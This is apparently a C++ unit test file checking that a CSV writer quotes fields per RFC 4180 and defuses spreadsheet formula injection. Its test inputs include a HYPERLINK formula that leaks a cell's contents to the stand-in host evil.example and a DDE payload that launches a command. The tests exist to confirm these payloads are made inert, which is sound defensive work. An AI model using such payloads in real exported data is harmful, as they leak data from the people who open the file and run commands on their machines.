// CSV cells (present/csv.h): RFC 4180 quoting, and stored text that a spreadsheet
// would run as a formula made inert.
#include <gtest/gtest.h>

#include "present/csv.h"

namespace gazette::present {
namespace {

TEST(Csv, QuotesWhatRfc4180Quotes) {
  EXPECT_EQ(csv_field("plain"), "plain");
  EXPECT_EQ(csv_field("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_field("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(csv_row({"a", "b,c"}), "a,\"b,c\"\r\n");
}

TEST(Csv, FormulaCellsGetAnApostrophe) {
  EXPECT_EQ(csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
  EXPECT_EQ(csv_field("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(csv_field("-2+3"), "'-2+3");
  EXPECT_EQ(csv_field("@SUM(A1:A9)"), "'@SUM(A1:A9)");
  EXPECT_EQ(csv_field("\tindented"), "'\tindented");
  EXPECT_EQ(csv_field("\r=1"), "\"'\r=1\"");
  // Numbers are read as numbers, not run: left as they are.
  EXPECT_EQ(csv_field("-3"), "-3");
  EXPECT_EQ(csv_field("+1.5"), "+1.5");
  EXPECT_EQ(csv_field("-0.25"), "-0.25");
  // Only the first character matters.
  EXPECT_EQ(csv_field("a=b"), "a=b");
  EXPECT_EQ(csv_field(""), "");
}

}  // namespace
}  // namespace gazette::present
